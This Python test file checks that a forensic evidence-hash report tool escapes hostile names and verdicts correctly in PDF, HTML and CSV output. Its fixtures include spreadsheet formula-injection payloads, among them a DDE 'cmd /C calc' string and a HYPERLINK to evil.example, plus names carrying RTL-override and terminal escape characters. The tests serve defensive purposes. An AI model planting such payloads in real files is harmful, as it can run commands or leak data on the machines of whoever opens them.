"""The evidence-hash report: every hash the prosecutor needs is in it, read back from the PDF with
pdftotext; the summary table leads; the verdict says VERIFIED only when every check holds (never next
to a MISMATCH); every PDF page names the case and its page number; hostile strings appear escaped and
no CSV cell can start a formula."""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

from ingest.cli import main
from manifests import custody, report, verify
from manifests.keys import load_public as verify_key
from manifests.report import Outcome
from manifests.text import csv_cell
from tests.conftest import require_tool

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "scripts"))
from make_sample import build_sample  # noqa: E402

HOSTILE_EXHIBIT = "JS/1\u202egpj.exe\x1b[31m\nforged line"
HOSTILE_FILE = "phone\nimage\u202eraw.\x1b[2Jdd"
FORMULA_EXHIBIT = '=HYPERLINK("http://evil.example/?x","click")'
FORMULA_EXAMINER = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_DESCRIPTION = "+cmd|' /C calc'!A0"
FORMULA_FILE = "-2+3.dd"
SPACED_EXHIBIT = " -2"
WRONG_SHA256 = "0" * 64
LEAKS = re.compile(r"\b(None|True|False)\b|\b1 (rows|bytes|errors|files|messages|stores|events|checks)\b")


def _ingest(root: Path, image: Path, case_id: str, exhibit: str, examiner: str, description: str, *extra: str) -> dict:
    result = CliRunner().invoke(main, ["ingest", str(image), "--case", case_id, "--exhibit", exhibit, "--out", str(root / "cases"),
                                       "--workers", "1", "--signing-key", str(root / "keys" / "lab.key"), "--examiner", examiner,
                                       "--description", description, *extra])
    assert result.exit_code in (0, 1), result.output
    (manifest,) = [json.loads(p.read_text()) for p in (root / "cases" / case_id).glob("*/manifest.json")
                   if json.loads(p.read_text())["exhibit_id"] == exhibit]
    return manifest


def _sample(tmp_path_factory: pytest.TempPathFactory, name: str, file_name: str) -> tuple[Path, Path]:
    """A folder with a signing key pair and the sample phone image under the given file name."""
    require_tool("mkfs.ext4")
    root = tmp_path_factory.mktemp(name)
    assert CliRunner().invoke(main, ["keys", "generate", "--name", "lab", "--out", str(root / "keys")]).exit_code == 0
    built = build_sample(root / "image")
    image = built.with_name(file_name)
    built.rename(image)
    return root, image


@pytest.fixture(scope="module")
def case(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, dict]:
    """A good case: hostile names, signed, no acquisition hash to compare."""
    root, image = _sample(tmp_path_factory, "report", HOSTILE_FILE)
    manifest = _ingest(root, image, "OP-1", HOSTILE_EXHIBIT, "A. Smith", "Samsung phone, black \u2014 desk 4, \u4e09\u661f\u624b\u673a, Ελληνικά")
    return root / "cases" / "OP-1", root / "keys" / "lab.pub", manifest


@pytest.fixture(scope="module")
def mismatch_case(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, dict, dict]:
    """Two exhibits of one case: one ingested with a wrong --expected-hash, one whose acquisition hash matches;
    ids, examiner, description and source file name written to start spreadsheet formulas."""
    root, image = _sample(tmp_path_factory, "mismatch", FORMULA_FILE)
    bad = _ingest(root, image, "OP-2", FORMULA_EXHIBIT, FORMULA_EXAMINER, FORMULA_DESCRIPTION, "--expected-hash", f"sha256:{WRONG_SHA256}")
    assert bad["source"]["hash_checks"][0]["match"] is False
    good = _ingest(root, image, "OP-2", SPACED_EXHIBIT, "=1+1", "@desk", "--expected-hash", f"sha256:{bad['source']['media_sha256']}")
    return root / "cases" / "OP-2", root / "keys" / "lab.pub", bad, good


def _report(case_dir: Path, output_format: str, output: Path, *keys: Path) -> None:
    args = ["report", str(case_dir), "--format", output_format, "--output", str(output)]
    for key in keys:
        args += ["--trusted-key", str(key)]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 0, result.output


def _pdf_pages(path: Path) -> list[str]:
    require_tool("pdftotext")
    text = subprocess.run(["pdftotext", "-layout", str(path), "-"], check=True, capture_output=True, text=True).stdout
    return text.split("\f")[:-1]  # pdftotext ends every page with a form feed


def _hashes(manifest: dict) -> list[str]:
    source = manifest["source"]
    values = [manifest["root_digest"], manifest["signature"]["public_key_fingerprint"], source["media_md5"], source["media_sha1"],
              source["media_sha256"]]
    values += [entry["sha256_before"] for entry in source["container_files"]]
    return values


def _counts(manifest: dict) -> list[str]:
    rows = {part["schema"]: part["rows"] for part in manifest["parts"]}
    return [str(rows[name]) for name in ("artefacts", "messages", "media", "errors")]


def _csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


class _Tables(HTMLParser):
    """Text of every table cell, by table class: {class: [[cell, ...], ...]}."""

    def __init__(self) -> None:
        super().__init__()
        self.tables: dict[str, list[list[str]]] = {}
        self._table: str | None = None
        self._cell: list[str] | None = None
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        if tag == "table":
            self._table = dict(attrs).get("class", "")
            self.tables.setdefault(self._table, [])
        elif tag == "tr" and self._table is not None:
            self.tables[self._table].append([])
        elif tag in ("td", "th"):
            self._cell = []

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th") and self._cell is not None and self._table is not None:
            self.tables[self._table][-1].append("".join(self._cell))
            self._cell = None
        elif tag == "table":
            self._table = None

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        if self._cell is not None:
            self._cell.append(data)


def _html(path: Path) -> _Tables:
    parser = _Tables()
    parser.feed(path.read_text(encoding="utf-8"))
    return parser


def test_pdf_holds_every_hash_and_escapes_hostile_names(case: tuple[Path, Path, dict], tmp_path: Path) -> None:
    case_dir, key, manifest = case
    output = tmp_path / "report.pdf"
    _report(case_dir, "pdf", output, key)
    pages = _pdf_pages(output)
    text = "\n".join(pages)
    missing = [value for value in _hashes(manifest) if value not in text]
    assert missing == []
    # every hash the report states (parts, custody events, seal) is whole on one line of the PDF
    _report(case_dir, "csv", tmp_path / "report.csv", key)
    stated = set(re.findall(r"\b[0-9a-f]{64}\b", (tmp_path / "report.csv").read_text(encoding="utf-8")))
    assert len(stated) >= 10 and sorted(stated - set(re.findall(r"\b[0-9a-f]{64}\b", text))) == []
    assert "Verdict: VERIFIED\n" in text and "NOT VERIFIED:" not in text
    assert "JS/1\\u202egpj.exe\\x1b[31m\\x0aforged line" in text
    assert "phone\\x0aimage\\u202eraw.\\x1b[2Jdd" in text
    assert "Samsung phone, black \u2014 desk 4, \u4e09\u661f\u624b\u673a, \u0395\u03bb\u03bb\u03b7\u03bd\u03b9\u03ba\u03ac" in text
    assert "\u202e" not in text and "\x1b" not in text
    assert LEAKS.search(text) is None


def test_pdf_summary_first_footers_and_appendix(case: tuple[Path, Path, dict], tmp_path: Path) -> None:
    case_dir, key, manifest = case
    output = tmp_path / "report.pdf"
    _report(case_dir, "pdf", output, key)
    pages = _pdf_pages(output)
    assert len(pages) == 4  # summary, the exhibit (two pages), the appendix
    for number, page in enumerate(pages, start=1):
        footer = [line for line in page.splitlines() if line.strip()][-1]
        assert re.fullmatch(rf"Case OP-1 \u00b7 evidence-hash report made \S+\s+page {number} of {len(pages)}", footer.strip()), footer
    # the summary leads: one row, exhibit id (wrapped in its column), verdict, media hash, four counts
    assert pages[0].index("Summary") < pages[0].index("JS/1")
    (row,) = [line for line in pages[0].splitlines() if line.startswith("JS/1")]
    assert re.fullmatch(r"JS/1\\u202egpj\.exe\\x1b\[\S*\s+VERIFIED\s+not checked\s+" + r"\s+".join(_counts(manifest)), row.strip()), row
    assert "Exhibit JS/1" not in pages[0] and "dfvfs" not in "".join(pages[:-1])
    assert "Appendix: tool and library versions" in pages[-1] and f"dfvfs {manifest['libraries']['dfvfs']}" in re.sub(r"\s+", " ", pages[-1])


def test_pdf_verdict_never_verified_beside_a_mismatch(mismatch_case: tuple[Path, Path, dict, dict], tmp_path: Path) -> None:
    case_dir, key, bad, good = mismatch_case
    output = tmp_path / "report.pdf"
    _report(case_dir, "pdf", output, key)
    pages = _pdf_pages(output)
    text = "\n".join(pages)
    summary = pages[0].splitlines()
    (bad_row,) = [line for line in summary if line.startswith(FORMULA_EXHIBIT[:12])]
    assert re.search(r"NOT VERIFIED: acquisition( hash)?\s+MISMATCH\s+" + r"\s+".join(_counts(bad)) + "$", bad_row), bad_row
    assert _counts(bad)[-1] == "1"  # the hash_mismatch row
    (good_row,) = [line for line in summary if line.startswith("-2 ")]  # pdftotext drops the leading space
    assert re.fullmatch(r"-2\s+VERIFIED\s+MATCH\s+" + r"\s+".join(_counts(good)), good_row.rstrip()), good_row
    bad_pages = [page for page in pages if "Verdict: NOT VERIFIED" in page]
    assert "Verdict: NOT VERIFIED: acquisition hash expected sha256\n" in bad_pages[0]
    assert re.search(rf"expected sha256\s+FAILS: expected {WRONG_SHA256},\s+computed {bad['source']['media_sha256']}: MISMATCH", text)
    assert re.search(r"(?<!NOT )VERIFIED", "".join(bad_pages)) is None
    assert LEAKS.search(text) is None
    for number, page in enumerate(pages, start=1):
        assert page.rstrip().endswith(f"page {number} of {len(pages)}") and "Case OP-2 \u00b7 " in page


def test_html_summary_verdicts_and_style(mismatch_case: tuple[Path, Path, dict, dict], tmp_path: Path) -> None:
    case_dir, key, bad, good = mismatch_case
    page = tmp_path / "report.html"
    _report(case_dir, "html", page, key)
    source = page.read_text(encoding="utf-8")
    parsed = _html(page)
    assert parsed.tables["summary"] == [
        ["exhibit", "verdict", "media hash", "artefacts", "messages", "media", "errors"],
        [SPACED_EXHIBIT, "VERIFIED", "MATCH", *_counts(good)],
        [FORMULA_EXHIBIT, "NOT VERIFIED: acquisition hash expected sha256", "MISMATCH", *_counts(bad)],
    ]
    assert "<style>" in source and "@media print" in source
    assert "<td class='verdict fail'>NOT VERIFIED: acquisition hash expected sha256</td>" in source
    assert "<td class='verdict ok'>VERIFIED</td>" in source
    assert f"<span class='hash'>{bad['root_digest']}</span>" in source
    assert source.index("class='summary'") < source.index("<h2>Exhibit") < source.index("Appendix: tool and library versions") < source.index("dfvfs")
    assert LEAKS.search("".join(parsed.text)) is None


def test_html_escapes_hostile_names(case: tuple[Path, Path, dict], tmp_path: Path) -> None:
    case_dir, key, manifest = case
    page = tmp_path / "report.html"
    _report(case_dir, "html", page, key)
    html_text = page.read_text()
    assert all(value in html_text for value in _hashes(manifest))
    assert "\u202e" not in html_text and "\x1b" not in html_text
    assert _html(page).tables["summary"][1][:3] == ["JS/1\\u202egpj.exe\\x1b[31m\\x0aforged line", "VERIFIED", "not checked"]


def test_csv_cells_cannot_start_formulas(mismatch_case: tuple[Path, Path, dict, dict], tmp_path: Path) -> None:
    case_dir, key, bad, good = mismatch_case
    table = tmp_path / "report.csv"
    _report(case_dir, "csv", table, key)
    rows = _csv(table)
    assert rows[0] == ["exhibit", "section", "item", "value"]
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell[:1] in "=+-@\t\r" or cell.lstrip()[:1] in "=+-@"] == []
    quoted_bad, quoted_good = "'" + FORMULA_EXHIBIT, "' -2"
    summary = {(r[0], r[2]): r[3] for r in rows[1:] if r[1] == "Summary"}
    assert summary == {(quoted_good, "verdict"): "VERIFIED", (quoted_good, "media hash"): "MATCH",
                       **{(quoted_good, name): count for name, count in zip(("artefacts", "messages", "media", "errors"), _counts(good))},
                       (quoted_bad, "verdict"): "NOT VERIFIED: acquisition hash expected sha256", (quoted_bad, "media hash"): "MISMATCH",
                       **{(quoted_bad, name): count for name, count in zip(("artefacts", "messages", "media", "errors"), _counts(bad))}}
    assert rows[1][1] == "Summary" and rows[len(summary)][1] == "Summary"  # the summary leads
    items = {(r[0], r[1], r[2]): r[3] for r in rows[1:]}
    assert items[(quoted_bad, "Exhibit", "examiner")] == "'" + FORMULA_EXAMINER
    assert items[(quoted_bad, "Exhibit", "description")] == "'" + FORMULA_DESCRIPTION
    assert items[(quoted_good, "Exhibit", "examiner")] == "'=1+1"
    assert items[(quoted_good, "Exhibit", "description")] == "'@desk"
    source_path = items[(quoted_bad, "Source", "path")]
    assert source_path.endswith("/" + FORMULA_FILE) and not source_path.startswith("'")
    assert items[(quoted_bad, "Verification", "acquisition hash expected sha256")] == (
        f"FAILS: expected {WRONG_SHA256}, computed {bad['source']['media_sha256']}: MISMATCH")
    assert items[(quoted_bad, "Appendix: versions", "dfvfs")] == bad["libraries"]["dfvfs"]
    assert LEAKS.search("\n".join(cells)) is None
    # the raw values stay in the sealed tables and the manifest
    folder = next(p for p in case_dir.iterdir() if p.is_dir() and json.loads((p / "manifest.json").read_text())["exhibit_id"] == FORMULA_EXHIBIT)
    assert pq.read_table(folder / "sources.parquet", columns=["exhibit_id"]).column(0).to_pylist() == [FORMULA_EXHIBIT]
    assert bad["examiner"] == FORMULA_EXAMINER and bad["description"] == FORMULA_DESCRIPTION


def test_csv_without_trusted_key_names_what_failed(case: tuple[Path, Path, dict], tmp_path: Path) -> None:
    case_dir, _, manifest = case
    table = tmp_path / "report.csv"
    _report(case_dir, "csv", table)
    by_item = {(r[1], r[2]): r[3] for r in _csv(table)[1:]}
    assert by_item[("Seal", "manifest root digest (SHA-256)")] == manifest["root_digest"]
    assert by_item[("Source", "media SHA256")] == manifest["source"]["media_sha256"]
    assert by_item[("Summary", "verdict")] == "NOT VERIFIED: signature, custody signatures"
    assert by_item[("Verification", "custody chain")] == "holds: intact: 2 events, every hash recomputed and linked to the one before"
    assert by_item[("Verification", "custody signatures")].startswith("FAILS: chain intact but signed by a key you did not trust: ")
    assert "BROKEN" not in by_item[("Verification", "custody signatures")]


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("\tplain", "'\tplain"), ("\uff1d1+1", "'\uff1d1+1"), ("\uff0b1", "'\uff0b1"), ("\uff0d1", "'\uff0d1"), ("\uff20x", "'\uff20x"),
    ("\ufe661", "'\ufe661"), ("  =1+1", "'  =1+1"), ("\u3000-1", "'\u3000-1"), ("\n@x", "'\n@x"),
    ("", ""), ("plain", "plain"), ("a=b", "a=b"), ("1-2", "1-2"), ("'quoted", "'quoted"), ("  spaced", "  spaced"), ("\u2014", "\u2014"),
])
def test_csv_cell(value: str, cell: str) -> None:
    assert csv_cell(value) == cell


def test_verdict_counts_every_check() -> None:
    assert report.verdict([]) == "NOT VERIFIED: nothing was checked"
    assert report.verdict([Outcome("root digest", True, "")]) == "VERIFIED"
    assert report.verdict([Outcome("root digest", True, ""), Outcome("signature", False, ""), Outcome("custody chain", False, "")]) == (
        "NOT VERIFIED: signature, custody chain")


def test_chain_wording_tells_untrusted_from_broken(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    untrusted = [custody.ChainCheck("custody event 0 (ingested A)", False, "signed by untrusted key ab12")]
    monkeypatch.setattr(custody, "verify_chain", lambda case_dir, trusted: untrusted)
    chain, signatures = report._chain_outcomes(tmp_path, [])
    assert chain == Outcome("custody chain", True, "intact: 1 event, every hash recomputed and linked to the one before")
    assert signatures == Outcome("custody signatures", False, "chain intact but signed by a key you did not trust: event 0 by key ab12")
    edited = [custody.ChainCheck("custody event 0 (ingested A)", True, "sha256 x"),
              custody.ChainCheck("custody event 1 (note A)", False, "event_sha256 y != recomputed z (edited); signed by untrusted key ab12")]
    monkeypatch.setattr(custody, "verify_chain", lambda case_dir, trusted: edited)
    chain, signatures = report._chain_outcomes(tmp_path, [])
    assert chain == Outcome("custody chain", False, "BROKEN: custody event 1 (note A): event_sha256 y != recomputed z (edited)")
    assert signatures == Outcome("custody signatures", False, "signed by a key you did not trust: event 1 by key ab12")
    forged = [custody.ChainCheck("custody event 0 (ingested A)", False, "signed by untrusted key ab12"),
              custody.ChainCheck("custody event 1 (note A)", False, "signed by untrusted key cd34"),
              custody.ChainCheck("custody event 2 (note A)", False, "signed by untrusted key ab12"),
              custody.ChainCheck("custody event 3 (note A)", False, "signature does not match the event")]
    monkeypatch.setattr(custody, "verify_chain", lambda case_dir, trusted: forged[:3])
    assert report._chain_outcomes(tmp_path, [])[1].detail == (
        "chain intact but signed by a key you did not trust: events 0, 2 by key ab12; event 1 by key cd34")
    monkeypatch.setattr(custody, "verify_chain", lambda case_dir, trusted: forged)
    assert report._chain_outcomes(tmp_path, [])[1].detail == (
        "chain intact but signatures do not hold: custody event 0 (ingested A): signed by untrusted key ab12; custody event 1 (note A): "
        "signed by untrusted key cd34; custody event 2 (note A): signed by untrusted key ab12; custody event 3 (note A): signature does not match the event")
    monkeypatch.setattr(custody, "verify_chain", lambda case_dir, trusted: [custody.ChainCheck("custody ledger", False, "custody.parquet is missing or empty")])
    chain, signatures = report._chain_outcomes(tmp_path, [])
    assert chain == Outcome("custody chain", False, "BROKEN: custody.parquet is missing or empty")
    assert signatures == Outcome("custody signatures", False, "no custody events to check")


def test_no_python_words_or_singular_plurals() -> None:
    assert [report.show(v) for v in (None, "", True, False, 0, "x\x1b")] == ["\u2014", "\u2014", "yes", "no", "0", "x\\x1b"]
    assert [report.plural(n, "row") for n in (0, 1, 2)] == ["0 rows", "1 row", "2 rows"]
    assert report.tool_text("19735 bytes, 1 rows, sha256 ab; completed with 1 errors; 11 rows; 2.1 rows") == (
        "19735 bytes, 1 row, sha256 ab; completed with 1 error; 11 rows; 2.1 rows")


def test_unreadable_manifest_is_reported_not_verified(case: tuple[Path, Path, dict], tmp_path: Path) -> None:
    case_dir, key, _ = case
    copy = tmp_path / "OP-1"
    shutil.copytree(case_dir, copy)
    (folder,) = [p for p in copy.iterdir() if p.is_dir()]
    (folder / "manifest.json").write_text("{not json", encoding="utf-8")
    table = tmp_path / "report.csv"
    _report(copy, "csv", table, key)
    by_item = {(r[1], r[2]): r[3] for r in _csv(table)[1:]}
    assert by_item[("Summary", "verdict")] == "NOT VERIFIED: manifest"
    assert by_item[("Summary", "media hash")] == "not checked" and by_item[("Summary", "artefacts")] == "\u2014"
    assert by_item[("Verification", "manifest")].startswith("FAILS: manifest.json cannot be read: ")


def test_pdf_footer_keeps_a_case_id_that_looks_like_a_page_alias(tmp_path: Path) -> None:
    """fpdf2's page-count alias is off: a case called "{nb}" is shown as it is, and page counts come from a first pass."""
    entry = report.ExhibitReport("E1", "not checked", {name: "0" for name in report.COUNTED_PARTS},
                                 checks=[Outcome("root digest", True, "recorded a, computed a")],
                                 items=[("Findings", f"item {n}", f"{n} rows") for n in range(300)])
    output = tmp_path / "alias.pdf"
    report.write_pdf(report.Report("{nb}", "2026-01-01T00:00:00+00:00", [], [entry]), output)
    pages = _pdf_pages(output)
    assert len(pages) > 3
    for number, page in enumerate(pages, start=1):
        assert re.search(rf"Case \{{nb\}} \u00b7 evidence-hash report made 2026-01-01T00:00:00\+00:00\s+page {number} of {len(pages)}\n*$", page)
    assert "Verdict: VERIFIED" in pages[1]


def test_manifest_without_a_field_is_reported_not_verified(case: tuple[Path, Path, dict], tmp_path: Path) -> None:
    case_dir, key, _ = case
    copy = tmp_path / "OP-1"
    shutil.copytree(case_dir, copy)
    (folder,) = [p for p in copy.iterdir() if p.is_dir()]
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    del manifest["outcome"]
    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    table = tmp_path / "report.csv"
    _report(copy, "csv", table, key)
    by_item = {(r[1], r[2]): r[3] for r in _csv(table)[1:]}
    assert by_item[("Summary", "verdict")] == "NOT VERIFIED: root digest, signature, manifest fields"
    assert by_item[("Verification", "manifest fields")] == "FAILS: manifest.json lacks or mistypes a field: KeyError('outcome')"


def test_an_acquisition_hash_verify_already_checks_is_counted_once(mismatch_case: tuple[Path, Path, dict, dict], tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """When verify compares the acquisition hashes itself (helper custody's change), its check stands alone."""
    case_dir, key, bad, _ = mismatch_case
    real = report.verify_exhibit

    def with_hash_check(folder: Path, trusted: list) -> list:
        checks = real(folder, trusted)
        if json.loads((folder / "manifest.json").read_text())["exhibit_id"] == FORMULA_EXHIBIT:
            checks.append(verify.Check(folder.name, "acquisition sha256", False, f"expected {WRONG_SHA256} != computed"))
        return checks

    monkeypatch.setattr(report, "verify_exhibit", with_hash_check)
    made = report.collect(case_dir, sorted(p for p in case_dir.iterdir() if p.is_dir()), [verify_key(key)], "OP-2")
    bad_entry = next(e for e in made.exhibits if e.exhibit_id == FORMULA_EXHIBIT)
    assert bad_entry.verdict == "NOT VERIFIED: acquisition sha256"
    good_entry = next(e for e in made.exhibits if e.exhibit_id == SPACED_EXHIBIT)
    assert [c.name for c in good_entry.checks if c.name.startswith("acquisition")] == ["acquisition hash expected sha256"]


def test_report_is_written_whole_or_not_at_all(case: tuple[Path, Path, dict], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A failure while writing leaves the earlier report as it was and no temporary file behind."""
    case_dir, key, _ = case
    output = tmp_path / "report.html"
    output.write_text("earlier report", encoding="utf-8")

    def fail(*args: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(report.os, "replace", fail)
    made = report.collect(case_dir, [p for p in case_dir.iterdir() if p.is_dir()], [verify_key(key)], "OP-1")
    with pytest.raises(OSError, match="No space left"):
        report.write_html(made, output)
    assert output.read_text(encoding="utf-8") == "earlier report"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.html"]
